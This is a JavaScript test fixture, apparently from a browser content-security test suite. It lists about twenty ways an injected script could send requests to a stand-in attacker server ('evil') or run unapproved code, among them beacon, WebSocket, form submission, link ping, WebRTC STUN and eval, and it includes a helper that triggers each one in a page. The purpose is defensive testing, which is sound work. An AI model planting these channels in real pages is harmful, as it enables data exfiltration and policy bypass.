// Every way a page has to carry something out, or to run what it should not, for a script that has got into it.
// Each runs in the page with the address of somebody else's server, and a port that listens for WebRTC.

/** Nothing of these may arrive, or run. */
export const WAYS = {
  fetch: (evil) => { fetch(`${evil}/fetch`).catch(() => {}) },
  XMLHttpRequest: (evil) => { const request = new XMLHttpRequest(); request.open('GET', `${evil}/XMLHttpRequest`); request.send() },
  beacon: (evil) => { navigator.sendBeacon(`${evil}/beacon`, 'data') },
  WebSocket: (evil) => { new WebSocket(`${evil.replace('http', 'ws')}/WebSocket`) },
  EventSource: (evil) => { new EventSource(`${evil}/EventSource`) },
  image: (evil) => { new Image().src = `${evil}/image` },
  stylesheet: (evil) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}/stylesheet` })) },
  background: (evil) => {
    const element = document.createElement('div')
    element.style.backgroundImage = `url(${evil}/background)`
    element.textContent = 'x'
    document.body.append(element)
  },
  font: (evil) => { new FontFace('f', `url(${evil}/font)`).load().catch(() => {}) },
  script: (evil) => { document.head.append(Object.assign(document.createElement('script'), { src: `${evil}/script` })) },
  iframe: (evil) => { document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/iframe` })) },
  object: (evil) => { document.body.append(Object.assign(document.createElement('object'), { data: `${evil}/object` })) },
  video: (evil) => { const video = Object.assign(document.createElement('video'), { src: `${evil}/video` }); video.load(); document.body.append(video) },
  form: (evil) => {
    const form = Object.assign(document.createElement('form'), { action: `${evil}/form`, method: 'POST', target: '_blank' })
    document.body.append(form)
    form.submit()
  },
  prefetch: (evil) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${evil}/prefetch` })) },
  worker: (evil) => { new Worker(URL.createObjectURL(new Blob([`fetch('${evil}/worker')`], { type: 'text/javascript' }))) },
  ping: (evil) => {
    const link = Object.assign(document.createElement('a'), { href: location.hash || '#', ping: `${evil}/ping` })
    document.body.append(link)
    link.click()
  },
  WebRTC: (evil, port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel('x')
    connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(() => {})
  },
  window: (evil) => { window.open(`${evil}/window`) },
  eval: () => { setTimeout(() => { try { (0, eval)('window.ran.push("eval")') } catch { /* refused */ } }) },
  inlineScript: () => { document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ran.push("inlineScript")' })) },
  inlineHandler: () => { document.body.append(Object.assign(document.createElement('div'), { innerHTML: '<img src="x:" onerror="window.ran.push(\'inlineHandler\')">' })) },
}

/** Tries one in the page. `way` is its source: nothing of this file is in the page. */
export function tryIn(page, way, evil, port) {
  return page.evaluate(`window.ran ??= []; try { (${way})(${JSON.stringify(evil)}, ${port}) } catch { /* refused */ }`)
}
